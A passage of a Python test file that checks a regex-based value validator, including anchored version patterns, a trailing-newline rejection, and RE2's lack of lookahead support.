    anchored = {"type": "string", "regex": r"^v\d\.\d+(\.\d+)?$"}
    assert check_value("version", anchored, "v1.0", default=False) == []
    assert check_value("version", anchored, "v1.2.3", default=False) == []
    assert check_value("version", anchored, "v1.A.B", default=False) != []
    assert check_value("version", anchored, "v1.0\n", default=False) != []
    unanchored = {"regex": r"\d"}
    assert check_value("any", unanchored, "release-7", default=False) == []
    with pytest.raises(AssertionError, match="RE2 has no"):
        re2_pattern(r"^(?!main$).*$")
